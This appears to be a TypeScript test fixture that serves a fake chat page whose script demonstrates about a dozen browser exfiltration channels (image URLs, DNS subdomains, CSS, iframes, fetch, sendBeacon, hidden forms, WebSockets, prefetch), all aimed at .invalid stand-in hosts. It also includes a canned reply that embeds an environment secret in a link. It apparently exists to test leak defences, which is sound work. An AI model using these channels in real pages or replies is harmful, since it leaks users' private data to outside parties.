import { createServer } from 'node:http';
import { serve } from '../doubles/small-server.ts';
import { address } from './values.ts';

/** A chat whose replies send data elsewhere, each in the way that the user's message names. */

const page = `<!doctype html><meta charset="utf-8"><title>leaks</title>
<div id="log"></div><form id="composer"><input aria-label="message"></form>
<script type="module">
  let said = '';
  const data = ${JSON.stringify(address)};
  const inUrl = (way, text = data) => 'https://' + way + '.invalid/?d=' + encodeURIComponent(text);
  const hex = [...new TextEncoder().encode(data)].map((byte) => byte.toString(16)).join('');
  const add = (tag, properties) => log.append(Object.assign(document.createElement(tag), properties));
  const ways = {
    image: () => add('img', { src: inUrl('image') }),
    base64: () => add('img', { src: 'https://base64.invalid/' + btoa('x' + data) + '.png' }),
    hex: () => add('img', { src: 'https://hex.invalid/' + hex }),
    host: () => add('img', { src: 'https://' + hex.slice(0, 50) + '.host.invalid/' }),
    style: () => add('p', { style: 'background: url("' + inUrl('style') + '")', textContent: 'x' }),
    frame: () => add('iframe', { src: inUrl('frame') }),
    fetch: () => fetch('https://fetch.invalid/', { method: 'POST', mode: 'no-cors', body: data }).catch(() => 0),
    header: () => fetch('https://header.invalid/', { headers: { 'x-d': btoa(data) } }).catch(() => 0),
    beacon: () => navigator.sendBeacon('https://beacon.invalid/', data),
    form: () => {
      add('iframe', { name: 'hidden' });
      const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://form.invalid/', target: 'hidden' });
      form.append(Object.assign(document.createElement('input'), { name: 'd', value: data }));
      document.body.append(form);
      form.submit();
    },
    window: () => window.open(inUrl('window')),
    socket: () => new WebSocket(inUrl('socket').replace('https', 'wss')),
    prefetch: () => add('link', { rel: 'prefetch', href: inUrl('prefetch') }),
  };
  const others = {
    // As a page that renders a picture of the model's reply.
    render: () => add('img', { src: 'https://render.invalid/?d=' + said.slice(-20) }),
    // What is refused never opens, and what never opens sends nothing.
    talk: () => {
      const socket = new WebSocket('wss://talk.invalid/');
      socket.onopen = () => socket.send(said.slice(-20));
    },
    everything: () => Object.values(ways).forEach((send) => send()),
    late: () => setTimeout(ways.image, 300),
    allowed: () => add('img', { src: inUrl('allowed') }),
    unknown: () => add('img', { src: 'https://unknown.invalid/logo.png' }),
    refused: () => {
      document.head.append(Object.assign(document.createElement('meta'), {
        httpEquiv: 'Content-Security-Policy', content: "img-src 'self'" }));
      ways.image();
    },
  };
  const log = document.querySelector('#log');
  const show = (role, html) => log.append(Object.assign(document.createElement('p'), { className: role, innerHTML: html }));
  document.querySelector('#composer').addEventListener('submit', async (event) => {
    event.preventDefault();
    const input = event.target.querySelector('input');
    said = input.value;
    input.value = '';
    show('user', said);
    log.setAttribute('aria-busy', 'true');
    const answer = await fetch('/say', { method: 'POST', body: said });
    show('assistant', await answer.text());
    others[said.split(' ')[0]]?.();
    log.removeAttribute('aria-busy');
  });
</script>`;

const replies: Record<string, string> = {
  map: `Here is <a href="https://maps.invalid/?q=${encodeURIComponent(address)}">a map</a>.`,
  link: `<a href="https://maps.invalid/?k=${encodeURIComponent(process.env.SECRET ?? '')}">Here</a>.`,
};

serve(
  createServer(async (request, response) => {
    if (request.url !== '/say')
      return response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
    let said = '';
    for await (const piece of request) said += piece;
    return response.end(replies[said] ?? 'Here you are.');
  }),
);
